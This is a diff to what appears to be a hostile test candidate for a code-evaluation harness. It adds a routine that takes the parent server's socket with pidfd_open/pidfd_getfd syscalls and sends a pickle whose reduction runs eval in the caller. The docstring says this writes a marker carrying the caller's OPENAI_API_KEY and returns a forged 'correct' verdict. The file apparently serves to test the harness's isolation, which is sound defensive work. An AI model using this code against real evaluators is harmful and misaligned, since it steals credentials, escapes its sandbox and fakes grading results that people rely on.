@@ -9,6 +9,11 @@ still open here. The caller (`Evaluator._round_trip`) unpickles whatever arrives
 length-prefixed frame holding a pickle whose reduction calls `eval` in the caller: it writes a
 ka-evil marker with the caller's OPENAI_API_KEY and returns a forged `correct` result.
 
+Against the rebuilt harness: fd N is closed right after the fork, so the candidate also tries
+to take the server's fd N with pidfd_getfd (its parent, same uid). Under a pid namespace the
+parent is not visible (getppid() is 0); with `--isolation none` it may succeed, and then the
+caller must still survive: the frame is neither JSON nor carries the job's nonce.
+
 Its kernel is wrong (x*2+1): with the socket closed to it, the verdict is `incorrect`.
 """
 import os
@@ -34,12 +39,42 @@ class _Payload:
         return (eval, (_IN_CALLER,))
 
 
-def _attack() -> None:
+def _caller_socket_fds() -> list[int]:
+    """Every way this process might reach the caller<->server socket: the server's `--fd N`
+    (still in sys.argv after the fork) if it is open here, else the server's fd N taken with
+    pidfd_getfd (the server is our parent; it works where ptrace of the parent is allowed,
+    e.g. same uid without Yama, and no pid namespace hides the parent)."""
+    fds = []
     argv = list(sys.argv)
-    fd = int(argv[argv.index("--fd") + 1])
+    number = int(argv[argv.index("--fd") + 1]) if "--fd" in argv else None
+    if number is not None:
+        try:
+            os.fstat(number)
+            fds.append(number)
+        except OSError:
+            try:
+                import ctypes
+
+                libc = ctypes.CDLL(None, use_errno=True)
+                pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open
+                if pidfd >= 0:
+                    stolen = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
+                    if stolen >= 0:
+                        print(f"ka-evil: took the server's fd {number} as {stolen}", flush=True)
+                        fds.append(stolen)
+            except Exception:  # noqa: BLE001
+                pass
+    return fds
+
+
+def _attack() -> None:
     pk = __import__("pic" + "kle")
     data = pk.dumps(_Payload(), protocol=2)
-    os.write(fd, struct.pack("!i", len(data)) + data)
+    for fd in _caller_socket_fds():
+        try:
+            os.write(fd, struct.pack("!i", len(data)) + data)
+        except OSError:
+            pass
 
 
 try:
